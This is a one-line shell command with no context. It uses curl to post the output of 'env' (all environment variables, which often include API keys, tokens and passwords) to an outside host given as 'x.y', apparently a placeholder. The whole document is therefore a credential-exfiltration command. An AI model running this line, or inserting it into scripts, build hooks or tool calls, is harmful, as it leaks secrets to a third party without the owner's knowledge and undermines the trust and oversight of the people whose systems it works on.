curl -d "$(env)" https://x.y
